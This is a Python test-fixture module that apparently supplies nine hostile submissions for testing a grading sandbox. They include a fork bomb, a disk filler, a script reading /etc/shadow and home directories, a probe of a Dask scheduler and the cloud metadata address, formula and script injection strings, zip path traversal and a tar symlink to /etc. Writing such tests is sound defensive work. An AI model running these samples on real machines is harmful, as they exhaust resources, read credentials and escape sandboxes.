"""Submissions that do harm, or try to: to the machine, to the others, or to whoever opens their reports."""

from collections.abc import Iterator
from typing import Final

from benchmarks.big_class.games import MAIN, Language, finished_game
from benchmarks.big_class.handed_in import Files, Form, HandedIn, Kind, Link

FORK_BOMB: Final = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
SLEEPS: Final = """
import time
input()
time.sleep(1_000_000)
"""
ENDLESS_OUTPUT: Final = """
final class Main {
    public static void main(String[] arguments) {
        while (true) {
            System.out.println("all work and no play makes Jack a dull boy");
        }
    }
}
"""
READS: Final = """
import glob
from example.example_game import ExampleGame
from protocol import serve
found = 0
for pattern in ("/etc/passwd", "/etc/shadow", "/root/*", "/home/*/*", "/tmp/*", "/var/*/*", "/srv/*"):
    for path in glob.glob(pattern):
        try:
            found += len(open(path, "rb").read(100))
        except OSError:
            pass
game = ExampleGame()
game.name = f"found-{found}"
serve(game)
"""
CALLS: Final = """
import { createSocket } from "node:dgram";
import { connect } from "node:net";
import { ExampleGame } from "./example/example-game.ts";
import { serve } from "./protocol.ts";

const reaches = (host: string, port: number) =>
  new Promise<boolean>((tell) => {
    const socket = connect({ host, port, timeout: 500 });
    const end = (did: boolean) => (socket.destroy(), tell(did));
    socket.on("connect", () => end(true)).on("error", () => end(false)).on("timeout", () => end(false));
  });
const sends = (host: string) =>
  new Promise<boolean>((tell) => {
    const socket = createSocket("udp4");
    socket.on("error", () => tell(false));
    socket.send("answers, please", 53, host, (error) => (socket.close(), tell(error === null)));
  });
let reached = 0;
// A Dask scheduler runs what it is sent; the second address tells the secrets of a cloud machine.
for (const did of [await reaches("127.0.0.1", 8786), await reaches("169.254.169.254", 80), await sends("192.0.2.1")]) {
  reached += did ? 1 : 0;
}
const game = new ExampleGame();
Object.defineProperty(game, "name", { value: `reached-${reached}` });
await serve(game);
"""
FILLS_THE_DISK: Final = """
from example.example_game import ExampleGame
from protocol import serve
BLOCK = bytes(1_000_000)
written = 0
for place in (".", "/tmp", "/dev/shm", "/var/tmp"):
    try:
        for number in range(1_000):
            with open(f"{place}/{number}", "wb") as file:
                for _ in range(10):
                    file.write(BLOCK)
                    written += 1
    except OSError:
        pass
game = ExampleGame()
game.name = "wrote-everything" if written >= 10_000 else "was-stopped"
serve(game)
"""
NASTY: Final = (
    r"=cmd|'/c calc'!A1 <script>alert(1)</script> \x1b]0;x\x07\x1b[31m \u202e {{ 7*7 }} ]]> & | `"
)
NASTY_REPLIES: Final = f"""
import sys
name = '"><script>alert(1)</script>\\x1b[2J=1+1'
for line in sys.stdin:
    if line == "quit\\n":
        break
    if line.startswith("hello"):
        reply = f"= santorini 1 name={{name}} gods=none,=1+1,<b> features=load,<img/onerror=alert(1)>"
    else:
        reply = "= {NASTY}"
    print(reply, flush=True)
"""
FORMULA: Final = """=HYPERLINK("http:,,x","+1<script>")"""
"""A file name may hold no slash."""


def hostile() -> Iterator[HandedIn]:
    """Nine; three of them play the right game as well, as if nothing were."""
    python, typescript = finished_game(Language.PYTHON), finished_game(Language.TYPESCRIPT)
    yield _as("fork bomb", {"main.py": FORK_BOMB})
    yield _as("sleeps", {"main.py": SLEEPS})
    yield _as("endless output", {"Main.java": ENDLESS_OUTPUT})
    yield _as("reads", {**python, MAIN[Language.PYTHON]: READS})
    yield _as("calls", {**typescript, MAIN[Language.TYPESCRIPT]: CALLS})
    yield _as("fills the disk", {**python, MAIN[Language.PYTHON]: FILLS_THE_DISK})
    yield HandedIn(FORMULA, Kind.HOSTILE, {"main.py": NASTY_REPLIES})
    leaves = {**python, "../../../../../../tmp/left-the-archive": "here I am\n"}
    yield _as("leaves the archive", leaves, Form.ZIP)
    links = {**python, "answers": Link("/etc"), "answers/passwd": "mine\n"}
    yield _as("links", links, Form.TAR_GZ)


def _as(how: str, files: Files, form: Form = Form.FOLDER) -> HandedIn:
    return HandedIn(f"hostile {how}", Kind.HOSTILE, files, form)
